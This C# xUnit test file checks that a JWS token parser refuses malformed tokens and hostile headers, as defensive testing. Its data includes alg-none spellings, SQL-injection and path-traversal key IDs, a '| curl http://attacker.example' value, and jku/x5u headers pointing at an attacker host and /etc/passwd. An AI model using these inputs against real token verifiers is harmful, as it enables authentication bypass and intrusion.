using System.Text;
using Gatehouse.Protocols.Jose;
using Xunit;

namespace Gatehouse.Protocols.Tests.Jose;

/// <summary>Attacks on the form of a token: one line each. None of them gets as far as a key.</summary>
public sealed class JwsTokenTests
{
    private const string Hs = "eyJhbGciOiJIUzI1NiJ9";

    [Theory]
    [InlineData("", JoseError.TokenEmpty)]
    [InlineData(".", JoseError.TokenParts)]
    [InlineData("..", JoseError.HeaderEncoding)]
    [InlineData("...", JoseError.TokenParts)]
    [InlineData("....", JoseError.TokenEncrypted)]
    [InlineData("Zm9v", JoseError.TokenParts)]
    [InlineData($"{Hs}.Zm9v", JoseError.TokenParts)]
    [InlineData($"{Hs}.Zm9v.AAAA.", JoseError.TokenParts)]
    [InlineData($"{Hs}.Zm9v.AAAA.AAAA", JoseError.TokenParts)]
    [InlineData($".{Hs}.Zm9v.AAAA", JoseError.TokenParts)]
    [InlineData($"{Hs}.Zm9v.AAAA.AAAA.AAAA", JoseError.TokenEncrypted)]
    [InlineData($"{Hs}.Zm9v.AAAA.AAAA.AAAA.AAAA", JoseError.TokenParts)]
    [InlineData($"{Hs}.Zm9v.", JoseError.SignatureMissing)]
    [InlineData($"{Hs}..AAAA", JoseError.PayloadMissing)]
    [InlineData(".Zm9v.AAAA", JoseError.HeaderEncoding)]
    [InlineData($$"""{"payload":"Zm9v","protected":"{{Hs}}","signature":"AAAA"}""", JoseError.TokenNotCompact)]
    [InlineData($"{Hs}=.Zm9v.AAAA", JoseError.HeaderEncoding)]
    [InlineData($"{Hs} .Zm9v.AAAA", JoseError.HeaderEncoding)]
    [InlineData($" {Hs}.Zm9v.AAAA", JoseError.HeaderEncoding)]
    [InlineData($"{Hs}.Zm9v\n.AAAA", JoseError.PayloadEncoding)]
    [InlineData($"{Hs}.Zm8=.AAAA", JoseError.PayloadEncoding)]
    [InlineData($"{Hs}.Zm9.AAAA", JoseError.PayloadEncoding)]
    [InlineData($"{Hs}.Zm9vZ.AAAA", JoseError.PayloadEncoding)]
    [InlineData($"{Hs}.Zm9v.AAAA\n", JoseError.SignatureEncoding)]
    [InlineData($"{Hs}.Zm9v.AAAA\0", JoseError.SignatureEncoding)]
    [InlineData($"{Hs}.Zm9v.AA==", JoseError.SignatureEncoding)]
    [InlineData($"{Hs}.Zm9v.AB", JoseError.SignatureEncoding)]
    [InlineData($"{Hs}.Zm9v.AA+/", JoseError.SignatureEncoding)]
    [InlineData($"{Hs}.Zm9v.A%41AA", JoseError.SignatureEncoding)]
    public void TryParse_malformed_token_is_refused(string token, JoseError expected) => Assert.Equal(expected, ErrorOf(token));

    [Theory]
    // None, in every spelling that somebody's library once took for it.
    [InlineData("""{"alg":"none"}""", JoseError.AlgorithmNone)]
    [InlineData("""{"alg":"None"}""", JoseError.AlgorithmNone)]
    [InlineData("""{"alg":"NONE"}""", JoseError.AlgorithmNone)]
    [InlineData("""{"alg":"nOnE"}""", JoseError.AlgorithmNone)]
    [InlineData("""{"alg":"NoNe"}""", JoseError.AlgorithmNone)]
    [InlineData("""{"\u0061lg":"\u006eone"}""", JoseError.AlgorithmNone)]
    [InlineData("""{"alg":"none "}""", JoseError.AlgorithmUnknown)]
    [InlineData("""{"alg":"none\u0000"}""", JoseError.AlgorithmUnknown)]
    [InlineData("""{"alg":"ｎone"}""", JoseError.AlgorithmUnknown)]
    // No algorithm, a wrong one, two.
    [InlineData("""{}""", JoseError.AlgorithmMissing)]
    [InlineData("""{"typ":"JWT"}""", JoseError.AlgorithmMissing)]
    [InlineData("""{"Alg":"HS256"}""", JoseError.AlgorithmMissing)]
    [InlineData("""{"alg":""}""", JoseError.AlgorithmUnknown)]
    [InlineData("""{"alg":"Unknown"}""", JoseError.AlgorithmUnknown)]
    [InlineData("""{"alg":"hs256"}""", JoseError.AlgorithmUnknown)]
    [InlineData("""{"alg":" HS256"}""", JoseError.AlgorithmUnknown)]
    [InlineData("""{"alg":"HS1"}""", JoseError.AlgorithmUnknown)]
    [InlineData("""{"alg":"RS1"}""", JoseError.AlgorithmUnknown)]
    [InlineData("""{"alg":"ES256K"}""", JoseError.AlgorithmUnknown)]
    [InlineData("""{"alg":"dir"}""", JoseError.AlgorithmUnknown)]
    [InlineData("""{"alg":1}""", JoseError.HeaderMember)]
    [InlineData("""{"alg":null}""", JoseError.HeaderMember)]
    [InlineData("""{"alg":["HS256"]}""", JoseError.HeaderMember)]
    [InlineData("""{"alg":"none","alg":"HS256"}""", JoseError.JsonDuplicateMember)]
    [InlineData("""{"alg":"HS256","\u0061lg":"none"}""", JoseError.JsonDuplicateMember)]
    [InlineData("""{"alg":"HS256","kid":"a","kid":"b"}""", JoseError.JsonDuplicateMember)]
    [InlineData("""{"alg":"HS256","jwk":{"kty":"oct","kty":"RSA"}}""", JoseError.JsonDuplicateMember)]
    // Encrypted after all.
    [InlineData("""{"alg":"HS256","enc":"A128GCM"}""", JoseError.TokenEncrypted)]
    [InlineData("""{"enc":"A128GCM","alg":"dir"}""", JoseError.TokenEncrypted)]
    // Critical members (RFC 7515 §4.1.11).
    [InlineData("""{"alg":"HS256","crit":[]}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","crit":"exp"}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","crit":{}}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","crit":null}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","crit":[1]}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","crit":["exp"]}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","crit":["alg"]}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","kid":"x","crit":["kid"]}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","crit":["crit"]}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","exp":1,"crit":["exp","exp"]}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","crit":[""]}""", JoseError.CriticalInvalid)]
    [InlineData("""{"alg":"HS256","exp":1,"crit":["exp"]}""", JoseError.CriticalUnknown)]
    [InlineData("""{"crit":["http://example.invalid/UNDEFINED"],"alg":"HS256","http://example.invalid/UNDEFINED":true}""", JoseError.CriticalUnknown)]
    // Unencoded payload (RFC 7797).
    [InlineData("""{"alg":"HS256","b64":false,"crit":["b64"]}""", JoseError.PayloadUnencoded)]
    [InlineData("""{"alg":"HS256","b64":false}""", JoseError.PayloadUnencoded)]
    [InlineData("""{"alg":"HS256","b64":true,"crit":["b64"]}""", JoseError.PayloadUnencoded)]
    [InlineData("""{"alg":"HS256","crit":["b64"]}""", JoseError.CriticalInvalid)]
    // Types of what is read.
    [InlineData("""{"alg":"HS256","kid":1}""", JoseError.HeaderMember)]
    [InlineData("""{"alg":"HS256","kid":["../../dev/null"]}""", JoseError.HeaderMember)]
    [InlineData("""{"alg":"HS256","kid":null}""", JoseError.HeaderMember)]
    [InlineData("""{"alg":"HS256","typ":1}""", JoseError.HeaderMember)]
    [InlineData("""{"alg":"HS256","cty":{}}""", JoseError.HeaderMember)]
    // Not a strict object.
    [InlineData("""[{"alg":"HS256"}]""", JoseError.JsonNotAnObject)]
    [InlineData("""{"alg":"HS256"} """ + "\0", JoseError.JsonMalformed)]
    [InlineData("\uFEFF{\"alg\":\"HS256\"}", JoseError.JsonMalformed)]
    [InlineData("""{"alg":"HS256"}{"alg":"none"}""", JoseError.JsonMalformed)]
    [InlineData("""{"alg":"HS256","x":[[[[1]]]]}""", JoseError.JsonTooDeep)]
    [InlineData("""{"alg":"HS256","x":1e999999}""", JoseError.JsonNumber)]
    public void TryParse_bad_header_is_refused(string header, JoseError expected) => Assert.Equal(expected, ErrorOf(Tokens.Unsigned(header)));

    [Fact]
    public void TryParse_header_that_is_not_utf8_is_refused() =>
        Assert.Equal(JoseError.JsonNotUtf8, ErrorOf($"{Tokens.Encode([.. "{\"alg\":\"HS256\",\"kid\":\""u8, 0xC3, 0x28, .. "\"}"u8])}.Zm9v.AAAA"));

    [Theory]
    [InlineData("../../../../../../dev/null")]
    [InlineData("x' UNION SELECT 'secret'; --")]
    [InlineData("/proc/sys/kernel/randomize_va_space")]
    [InlineData("| curl http://attacker.example")]
    [InlineData("http://attacker.example/jwks.json")]
    [InlineData("")]
    public void TryParse_hostile_key_id_is_text_that_no_key_has(string keyId)
    {
        var token = Tokens.Parse(Tokens.Unsigned($$"""{"alg":"HS256","kid":"{{keyId}}"}"""));
        Assert.Equal(keyId, Encoding.UTF8.GetString(token.KeyId));
        Assert.True(token.HasKeyId);

        Assert.True(JoseKey.TryFromSecret(new byte[32], JoseKeyPolicy.Default, out var key, out _, "k1"));
        Assert.False(new JwkSet(key, TestKeys.Secret(new byte[32])).TryFind(token, out _, out var error));
        Assert.Equal(JoseError.KeyNotFound, error);
    }

    [Fact]
    public void TryParse_key_id_with_escapes_is_unescaped() =>
        Assert.Equal("a\0\"é\r\n", Encoding.UTF8.GetString(Tokens.Parse(Tokens.Unsigned("""{"alg":"HS256","kid":"a\u0000\"\u00e9\r\n"}""")).KeyId));

    [Fact]
    public void TryParse_each_limit_holds_to_the_byte()
    {
        JoseError Of(string token, JoseLimits limits) => JwsToken.TryParse(Encoding.UTF8.GetBytes(token), limits, out _, out var error) ? JoseError.None : error;
        string header = """{"alg":"HS256","kid":"1234"}""";
        string token = Tokens.Unsigned(header);

        Assert.Equal(JoseError.None, Of(token, new JoseLimits { TokenBytes = token.Length, HeaderBytes = header.Length, KeyIdBytes = 4, HeaderDepth = 1 }));
        Assert.Equal(JoseError.TokenTooLarge, Of(token, new JoseLimits { TokenBytes = token.Length - 1 }));
        Assert.Equal(JoseError.HeaderTooLarge, Of(token, new JoseLimits { HeaderBytes = header.Length - 1 }));
        Assert.Equal(JoseError.KeyIdTooLong, Of(token, new JoseLimits { KeyIdBytes = 3 }));
        Assert.Equal(JoseError.TokenTooLarge, ErrorOf(new string('A', 16 * 1024 + 1)));
        Assert.Equal(JoseError.KeyIdTooLong, ErrorOf(Tokens.Unsigned($$"""{"alg":"HS256","kid":"{{new string('k', 5000)}}"}""")));
        Assert.Equal(JoseError.HeaderTooLarge, ErrorOf(Tokens.Unsigned($$"""{"alg":"HS256","x5c":"{{new string('k', 9000)}}"}""")));
        Assert.Equal(JoseError.JsonTooManyValues, ErrorOf(Tokens.Unsigned($$"""{"alg":"HS256","x5c":[{{string.Join(',', Enumerable.Repeat("\"\"", 100))}}]}""")));
    }

    [Theory]
    [InlineData("""{"alg":"HS256","jku":"https://attacker.example/jwks.json"}""")]
    [InlineData("""{"alg":"HS256","x5u":"file:///etc/passwd"}""")]
    [InlineData("""{"alg":"HS256","x5c":["AAAA"],"x5t":"x"}""")]
    [InlineData("""{"alg":"HS256","jwk":{"kty":"oct","k":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}}""")]
    [InlineData("""{"alg":"HS256","zip":"DEF","iv":[1,[2]]}""")]
    public void TryParse_keys_brought_along_and_unknown_members_are_read_over(string header)
    {
        // Signed with the very key that the header offers: nobody but the attacker trusts it.
        string token = Tokens.Signed(TestKeys.Secret(new byte[32]), JoseAlgorithm.HS256, header);
        Assert.Equal(JoseError.SignatureInvalid, Tokens.Check(token, TestKeys.For(JoseAlgorithm.HS256).Verifying));
    }

    [Theory]
    [InlineData("JWT", true)]
    [InlineData("jwt", true)]
    [InlineData("application/jwt", true)]
    [InlineData("APPLICATION/JWT", true)]
    [InlineData("application/at+jwt", false)]
    [InlineData("at+jwt", false)]
    [InlineData("application/", false)]
    [InlineData("", false)]
    public void HasType_compares_media_types(string type, bool expected) =>
        Assert.Equal(expected, Tokens.Parse(Tokens.Unsigned($$"""{"alg":"HS256","typ":"{{type}}"}""")).HasType("jwt"u8));

    [Theory]
    [InlineData(0)]
    [InlineData(65)]
    public void Depth_out_of_range_throws(int depth)
    {
        Assert.Throws<ArgumentOutOfRangeException>(() => new JoseLimits { HeaderDepth = depth });
        Assert.Throws<ArgumentOutOfRangeException>(() => new JoseLimits { ClaimsDepth = depth });
    }

    [Fact]
    public void ToString_says_nothing_of_the_token() => Assert.Equal("JwsToken", Tokens.Parse(RfcVectors.A1).ToString());

    [Fact]
    public void CopyPayload_into_too_little_throws() => Assert.Throws<ArgumentException>(() => Tokens.Parse(RfcVectors.A1).CopyPayload(new byte[3]));

    private static JoseError ErrorOf(string token)
    {
        Assert.False(JwsToken.TryParse(Encoding.UTF8.GetBytes(token), JoseLimits.Default, out var result, out var error));
        Assert.Null(result);
        Assert.False(JwsToken.TryParse(new ReadOnlyMemory<byte>(Encoding.UTF8.GetBytes(token)), JoseLimits.Default, out _, out var same));
        Assert.Equal(error, same);
        return error;
    }
}
